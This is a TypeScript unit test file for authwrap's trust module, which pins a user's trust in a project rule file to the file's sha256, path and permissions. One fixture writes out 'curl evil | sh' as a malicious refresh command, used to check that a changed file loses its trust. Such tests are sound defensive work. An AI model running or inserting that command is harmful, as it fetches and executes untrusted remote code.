// Unit tests for src/reauth/trust.ts: a project rule file's re-auth command runs only once the
// user trusted that file, pinned by the sha256 of its bytes, so a changed file is untrusted again.
import { createHash } from "node:crypto";
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { describe, expect, it } from "vitest";
import { isTrusted, trustFile } from "../src/reauth/trust.js";

const sha256 = (text: string) =>
  createHash("sha256").update(text).digest("hex");

function setup(content = "version: 1\ntool: mycli\nrules: []\n") {
  const dir = mkdtempSync(join(tmpdir(), "authwrap-trust-"));
  const stateDir = join(dir, "state", "authwrap");
  const file = join(dir, "repo", ".authwrap", "mycli.yaml");
  mkdirSync(join(dir, "repo", ".authwrap"), { recursive: true });
  writeFileSync(file, content);
  return { dir, stateDir, file, hash: sha256(content) };
}

describe("trust pinned by sha256", () => {
  it("a file nobody trusted is not trusted", () => {
    const { stateDir, file, hash } = setup();
    expect(isTrusted(stateDir, file, hash)).toBe(false);
    // No hash loaded and no record: still not trusted (undefined must not equal undefined).
    expect(isTrusted(stateDir, file, undefined)).toBe(false);
  });

  it("trusting records the sha256 of the file's bytes; the same bytes are then trusted", () => {
    const { stateDir, file, hash } = setup();
    expect(trustFile(stateDir, file)).toBe(hash);
    expect(isTrusted(stateDir, file, hash)).toBe(true);
  });

  it("a file changed after it was trusted is untrusted until trusted again", () => {
    const { stateDir, file } = setup();
    trustFile(stateDir, file);
    const changed =
      "version: 1\ntool: mycli\nrefresh_command: curl evil | sh\nrules: []\n";
    writeFileSync(file, changed);
    expect(isTrusted(stateDir, file, sha256(changed))).toBe(false);
    trustFile(stateDir, file);
    expect(isTrusted(stateDir, file, sha256(changed))).toBe(true);
  });

  it("the hash authwrap loaded counts, not the file's bytes now: a file swapped after loading is not trusted by accident", () => {
    const { stateDir, file, hash } = setup();
    const loaded = sha256("what authwrap read before the swap");
    trustFile(stateDir, file);
    expect(isTrusted(stateDir, file, loaded)).toBe(false);
    expect(isTrusted(stateDir, file, undefined)).toBe(false);
    expect(isTrusted(stateDir, file, hash)).toBe(true);
  });

  it("trust is per path (resolved): another file with the same bytes is not trusted; a second trust keeps the first", () => {
    const { dir, stateDir, file, hash } = setup();
    const other = join(dir, "repo", "other.yaml");
    writeFileSync(other, readFileSync(file));
    trustFile(stateDir, file);
    expect(isTrusted(stateDir, other, hash)).toBe(false);
    expect(
      isTrusted(
        stateDir,
        // The same file named relative to the working folder, as a rule's source may be.
        relative(process.cwd(), file),
        hash,
      ),
    ).toBe(true);
    trustFile(stateDir, other);
    expect(isTrusted(stateDir, file, hash)).toBe(true);
    expect(isTrusted(stateDir, other, hash)).toBe(true);
  });

  it("the trust list is a 0600 file in the 0700 state folder", () => {
    const { stateDir, file } = setup();
    trustFile(stateDir, file);
    expect(statSync(stateDir).mode & 0o777).toBe(0o700);
    expect(
      statSync(join(stateDir, "trusted-rule-files.json")).mode & 0o777,
    ).toBe(0o600);
  });

  it("an unsafe state folder is refused before anything is trusted", () => {
    const { stateDir, file, hash } = setup();
    mkdirSync(stateDir, { recursive: true });
    chmodSync(stateDir, 0o777);
    expect(() => trustFile(stateDir, file)).toThrow(
      expect.objectContaining({ code: "UNSAFE_STATE_DIR" }),
    );
    chmodSync(stateDir, 0o700);
    expect(isTrusted(stateDir, file, hash)).toBe(false);
  });

  it("a trust list that is not JSON trusts nothing", () => {
    const { stateDir, file, hash } = setup();
    trustFile(stateDir, file);
    writeFileSync(join(stateDir, "trusted-rule-files.json"), "{garbage");
    expect(isTrusted(stateDir, file, hash)).toBe(false);
  });
});
